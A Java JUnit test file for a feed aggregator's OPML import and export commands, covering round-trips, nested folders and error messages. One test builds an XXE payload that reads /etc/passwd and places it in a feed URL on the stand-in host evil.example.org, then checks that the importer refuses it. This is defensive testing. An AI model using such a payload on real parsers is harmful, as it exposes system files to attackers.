package org.callisto.app;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Collectors;
import org.callisto.db.Database;
import org.callisto.planet.Category;
import org.callisto.planet.Feed;
import org.callisto.planet.SubscriptionStore;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class OpmlCommandTest {

    @ParameterizedTest
    @MethodSource("org.callisto.db.TestDatabases#kinds")
    void exportThenImportIntoAFreshDatabaseGivesTheSameFeedsAndCategories(String kind, @TempDir Path dir)
            throws Exception {
        String source = Cli.freshDatabase(kind);
        Cli.on(
                source,
                "feeds",
                "add",
                "https://a.example.org/feed",
                "--name",
                "Alice & Co",
                "--category",
                "FreeBSD",
                "--category",
                "GNU/Linux");
        Cli.on(source, "feeds", "add", "https://b.example.org/rss?x=1&y=2", "--name", "Bob");
        Cli.on(
                source,
                "feeds",
                "add",
                "http://c.example.net/atom.xml",
                "--category",
                "OpenBSD",
                "--category",
                "FreeBSD");
        Path file = dir.resolve("planet.opml");

        Cli.Run export = Cli.on(source, "opml", "export", file.toString());
        assertThat(export.exit()).as(export.err()).isZero();
        assertThat(export.out()).contains("Exported 3 feeds to " + file);
        Cli.Run toStdout = Cli.on(source, "opml", "export");
        assertThat(toStdout.exit()).isZero();
        assertThat(toStdout.out()).startsWith("<?xml").contains("category=\"FreeBSD,GNU/Linux\"");

        String target = Cli.freshDatabase(kind);
        Cli.Run imported = Cli.on(target, "opml", "import", file.toString());
        assertThat(imported.exit()).as(imported.err()).isZero();
        assertThat(imported.out()).contains("3 added, 0 updated, 0 unchanged, 0 skipped");
        assertThat(snapshot(target)).isEqualTo(snapshot(source));

        Cli.Run twice = Cli.on(target, "opml", "import", file.toString());
        assertThat(twice.out()).contains("0 added, 0 updated, 3 unchanged, 0 skipped");
        assertThat(snapshot(target)).isEqualTo(snapshot(source));
    }

    @ParameterizedTest
    @MethodSource("org.callisto.db.TestDatabases#kinds")
    void importsNestedFoldersAsCategoriesAndSaysWhyItSkips(String kind) throws Exception {
        String db = Cli.freshDatabase(kind);
        Cli.on(db, "feeds", "add", "https://unfiled.example.com/feed", "--name", "Unfiled Blog", "--category", "Misc");
        Path file = Path.of(getClass().getResource("/opml/nested-folders.opml").toURI());

        Cli.Run r = Cli.on(db, "opml", "import", file.toString());
        assertThat(r.exit()).as(r.err()).isZero();
        assertThat(r.out())
                .contains("3 added, 0 updated, 1 unchanged, 2 skipped")
                .contains("'gopher://gopher.example.org/1/news' is not an http(s) URL")
                .contains("line 20: outline 'Empty bookmark' has no xmlUrl");
        Map<String, String> feeds = snapshot(db);
        assertThat(feeds)
                .containsEntry("https://www.freebsd.example.org/news/rss.xml", "FreeBSD News: BSD, FreeBSD, Linux")
                .containsEntry("https://undeadly.example.org/cgi?action=rss&full=yes", "undeadly: BSD, OpenBSD")
                .containsEntry("https://lwn.example.net/headlines/newrss", "LWN: Kernel, Linux, News")
                .containsEntry("https://unfiled.example.com/feed", "Unfiled Blog: Misc")
                .hasSize(4);
    }

    @Test
    void hostileOpmlIsRefusedAndLeaksNothing(@TempDir Path dir) throws Exception {
        String db = Cli.freshDatabase("sqlite");
        Path file = dir.resolve("evil.opml");
        Files.writeString(file, """
                <?xml version="1.0"?>
                <!DOCTYPE opml [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
                <opml version="2.0"><head><title>&xxe;</title></head><body>
                <outline type="rss" text="&xxe;" xmlUrl="https://evil.example.org/?&xxe;"/>
                </body></opml>""");
        Cli.Run r = Cli.on(db, "opml", "import", file.toString());
        assertThat(r.exit()).isEqualTo(1);
        assertThat(r.err()).contains(file + ":2:").contains("DTD");
        assertThat(r.out() + r.err()).doesNotContain("root:");
        assertThat(snapshot(db)).isEmpty();
    }

    @Test
    void nonOpmlInputNamesTheFileLineAndColumn(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("feed.xml");
        Files.writeString(file, "<?xml version=\"1.0\"?>\n<rss version=\"2.0\"><channel/></rss>\n");
        Cli.Run r = Cli.on(Cli.freshDatabase("sqlite"), "opml", "import", file.toString());
        assertThat(r.exit()).isEqualTo(1);
        assertThat(r.err())
                .containsPattern(java.util.regex.Pattern.quote(file.toString()) + ":2:\\d+: the root element is <rss>");
    }

    @Test
    void aMissingFileIsNamed() {
        Cli.Run r = Cli.on(Cli.freshDatabase("sqlite"), "opml", "import", "/nonexistent/subs.opml");
        assertThat(r.exit()).isEqualTo(1);
        assertThat(r.err()).contains("/nonexistent/subs.opml does not exist");
    }

    /** url -> "display name: categories sorted", for comparing two databases. */
    static Map<String, String> snapshot(String url) {
        try (Database db = Database.open(url, "", "")) {
            Map<String, String> out = new TreeMap<>();
            for (Feed f : new SubscriptionStore(db, Clock.systemUTC()).feeds()) {
                List<String> cats =
                        f.categories().stream().map(Category::name).sorted().toList();
                out.put(
                        f.url(),
                        f.displayName()
                                + (cats.isEmpty() ? "" : ": " + cats.stream().collect(Collectors.joining(", "))));
            }
            return out;
        }
    }
}
